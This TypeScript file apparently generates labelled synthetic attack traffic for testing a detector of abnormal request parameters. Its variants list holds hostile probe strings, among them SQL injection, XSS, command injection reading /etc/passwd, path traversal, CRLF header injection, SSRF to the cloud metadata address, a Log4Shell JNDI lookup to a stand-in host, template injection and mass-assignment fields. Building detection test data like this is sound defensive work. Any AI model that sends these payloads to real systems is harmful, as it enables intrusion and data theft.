import { secondMs } from '../calendar.ts';
import { households, person, sittings } from '../people.ts';
import type { Random } from '../random.ts';
import type { Query, Route } from '../request.ts';
import { request, routes } from '../site.ts';
import type { Stage } from '../stage.ts';
import { german } from './common.ts';

/** Values that no parameter of the site ever had. */
export function addParameters(stage: Stage): void {
  for (const [index, [title, of]] of variants.entries()) {
    const random = stage.random(`parameters ${index + 1}`);
    const requests = 3 + random.int(12);
    const label = stage.attack(`abnormal-parameter:${index + 1}`, 'abnormal-parameter', title, { requests });
    const who = person(stage, `prober-${index + 1}`, { country: 'GB', devices: households.servers('GB') });
    sittings(stage, who, 40, [stage.startMs, stage.endMs], { perMinute: 5 });
    const device = who.devices[0]!;
    const from = stage.workday(random, german, 8 + random.int(10));
    stage.at(
      Array.from({ length: requests }, (_, at) => from + at * random.between(5, 40) * secondMs),
      (atMs) => {
        const [at, method, path, query] = random.pick(of)(random);
        const probe = request(device.client, device.ip(), atMs, at, method, path, query, random);
        probe.status = random.pick([200, 400, 422, 200, 500, 404]);
        stage.send(probe, label);
      },
    );
  }
}

const get =
  (path: string, at: Route, query: Query): ((random: Random) => [Route, string, string, Query | null]) =>
  () => [at, 'GET', path, query];
const list = (query: Query) => get('/orders', routes.orders, query);

const variants: readonly [
  title: string,
  of: readonly ((random: Random) => [Route, string, string, Query | null])[],
][] = [
  [
    'injection into a number or an enum',
    [
      list({ page: "1' OR '1'='1", limit: '20' }),
      list({ page: '1', limit: '20', status: '<script>alert(1)</script>' }),
      list({ page: '1;cat /etc/passwd', limit: '20' }),
      get('/files', routes.files, { path: '../../../../etc/passwd' }),
    ],
  ],
  [
    'another type: letters in an id',
    [
      list({ page: 'abc', limit: '20' }),
      (random) => [routes.orders, 'GET', `/orders/abc${random.int(9)}x7y1`, null],
    ],
  ],
  [
    'another magnitude',
    [
      list({ page: '1', limit: '1000000' }),
      () => [routes.payments, 'POST', '/payments/transfers', { amount: '-1', currency: 'EUR' }],
      () => [routes.payments, 'POST', '/payments/transfers', { amount: '98000000.00', currency: 'EUR' }],
    ],
  ],
  [
    'twenty times as long',
    [
      list({ page: '1', limit: '20', sort: 'date'.repeat(20) }),
      get('/catalog/products', routes.products, { category: 'x'.repeat(160), page: '1' }),
    ],
  ],
  [
    'double encoding, null byte, line breaks',
    [
      get('/files', routes.files, { path: '%252e%252e%252fsecret' }),
      get('/files', routes.files, { path: 'public/a\u0000.png' }),
      list({ page: '1', limit: '20', sort: 'date\r\nSet-Cookie: a=b' }),
    ],
  ],
  ['parameter pollution', [list({ page: ['1', '2', '3'], limit: ['20', '5000'] })]],
  [
    'unknown parameter, mass assignment',
    [
      list({ page: '1', limit: '20', role: 'admin' }),
      () => [
        routes.payments,
        'POST',
        '/payments/transfers',
        { amount: '10.00', currency: 'EUR', approved: 'yes' },
      ],
    ],
  ],
  [
    'a URL where a relative path was',
    [
      get('/files', routes.files, { path: 'http://169.254.169.254/latest/meta-data/' }),
      get('/files', routes.files, { path: '//internal.example.net/admin' }),
    ],
  ],
  [
    'template and lookup strings',
    [
      list({ page: '1', limit: '20', status: '${jndi:ldap://x.example.net/a}' }),
      list({ page: '{{7*7}}', limit: '20' }),
    ],
  ],
  [
    'suffix of hidden files',
    [
      () => [routes.orders, 'GET', '/orders.bak', null],
      () => [routes.products, 'GET', '/catalog/products~', null],
      () => [routes.accounts, 'GET', '/accounts/me.old', null],
    ],
  ],
  ['a flag never seen', [list({ page: '1', limit: '20', debug: 'true' })]],
  [
    'in the character set, off the enum',
    [
      list({ page: '1', limit: '20', status: 'opened' }),
      get('/reports/1004/render', routes.reports, { format: 'xls' }),
    ],
  ],
];
